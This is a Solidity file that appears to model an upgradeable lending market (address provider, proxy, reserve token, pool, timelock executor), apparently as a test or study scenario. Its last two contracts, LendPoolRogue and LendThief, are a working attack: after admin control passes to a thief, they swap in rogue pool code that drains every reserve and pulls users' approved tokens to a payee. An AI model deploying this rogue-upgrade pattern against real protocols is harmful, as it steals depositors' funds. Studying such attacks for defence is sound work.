// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Token} from "../props/Tokens.sol";

/// Knows the parts of a lending market, and is the owner of their code.
contract LendAddressesProvider is Ownable {
    LendPoolProxy public pool;

    event LendingPoolUpdated(address indexed newAddress);
    event ProxyCreated(bytes32 id, address indexed newAddress);

    constructor() Ownable(msg.sender) {}

    function getLendingPool() external view returns (address) {
        return address(pool);
    }

    function setLendingPoolImpl(address code) external onlyOwner {
        if (address(pool) == address(0)) {
            pool = new LendPoolProxy(code);
            emit ProxyCreated("LENDING_POOL", address(pool));
        } else {
            pool.upgradeTo(code);
        }
        emit LendingPoolUpdated(code);
    }
}

contract LendPoolProxy {
    // keccak256("eip1967.proxy.implementation") - 1
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    address private immutable admin = msg.sender;

    event Upgraded(address indexed implementation);

    constructor(address code) {
        set(code);
    }

    function upgradeTo(address code) external {
        require(msg.sender == admin, "not the admin");
        set(code);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    function set(address code) private {
        assembly { sstore(SLOT, code) }
        emit Upgraded(code);
    }
}

/// Holds what was lent of one asset, and gives it where the pool says.
contract RToken is Token {
    Token public immutable underlying;
    address public immutable pool;

    constructor(Token underlying_, address pool_) Token("rToken", 18) {
        (underlying, pool) = (underlying_, pool_);
    }

    modifier onlyPool() {
        require(msg.sender == pool, "29");
        _;
    }

    function mintTo(address to, uint256 amount) external onlyPool {
        _mint(to, amount);
    }

    function burnFrom(address from, uint256 amount) external onlyPool {
        _burn(from, amount);
    }

    function transferUnderlyingTo(address to, uint256 amount) external onlyPool {
        underlying.transfer(to, amount);
    }
}

contract LendPool {
    event Deposit(address indexed reserve, address user, address indexed onBehalfOf, uint256 amount);
    event Withdraw(address indexed reserve, address indexed user, address indexed to, uint256 amount);

    function deposit(RToken reserve, uint256 amount) external {
        reserve.underlying().transferFrom(msg.sender, address(reserve), amount);
        reserve.mintTo(msg.sender, amount);
        emit Deposit(address(reserve.underlying()), msg.sender, msg.sender, amount);
    }

    function withdraw(RToken reserve, uint256 amount, address to) external {
        reserve.burnFrom(msg.sender, amount);
        reserve.transferUnderlyingTo(to, amount);
        emit Withdraw(address(reserve.underlying()), msg.sender, to, amount);
    }
}

/// The next version rounds withdrawals of all to all.
contract LendPoolV2 is LendPool {
    function withdrawAll(RToken reserve, address to) external {
        uint256 amount = reserve.balanceOf(msg.sender);
        reserve.burnFrom(msg.sender, amount);
        reserve.transferUnderlyingTo(to, amount);
        emit Withdraw(address(reserve.underlying()), msg.sender, to, amount);
    }
}

/// Owner of the provider for as long as a vote may take: what it is told to do it does a while later.
contract LendExecutor {
    struct Action {
        address target;
        bytes data;
        uint256 due;
    }

    address public immutable council = msg.sender;
    Action[] private actions;

    event Queued(uint256 indexed id, address target, bytes data, uint256 due);
    event Executed(uint256 indexed id);

    function queue(address target, bytes calldata data) external {
        require(msg.sender == council, "not the council");
        emit Queued(actions.length, target, data, block.timestamp + 1 hours);
        actions.push(Action(target, data, block.timestamp + 1 hours));
    }

    function execute(uint256 id) external {
        Action memory action = actions[id];
        require(action.due != 0 && block.timestamp >= action.due, "not due");
        delete actions[id];
        (bool ok,) = action.target.call(action.data);
        require(ok, "failed");
        emit Executed(id);
    }
}

/// The pool's code as the thief wants it.
contract LendPoolRogue {
    function drain(RToken reserve, address to) external {
        Token underlying = reserve.underlying();
        reserve.transferUnderlyingTo(to, underlying.balanceOf(address(reserve)));
    }

    function pull(Token token, address from, address to) external {
        uint256 most = token.balanceOf(from);
        uint256 allowed = token.allowance(from, address(this));
        token.transferFrom(from, to, most < allowed ? most : allowed);
    }
}

/// The owner of the provider, once signers gave it away.
contract LendThief {
    /// Replaces the code where it was not yet, and empties reserves.
    function rob(LendAddressesProvider provider, RToken[] calldata reserves, address payee, bool first) external {
        if (first) provider.setLendingPoolImpl(address(new LendPoolRogue()));
        LendPoolRogue pool = LendPoolRogue(provider.getLendingPool());
        for (uint256 i = 0; i < reserves.length; i++) pool.drain(reserves[i], payee);
    }

    function pull(LendAddressesProvider provider, Token token, address[] calldata users, address payee) external {
        LendPoolRogue pool = LendPoolRogue(provider.getLendingPool());
        for (uint256 i = 0; i < users.length; i++) pool.pull(token, users[i], payee);
    }
}
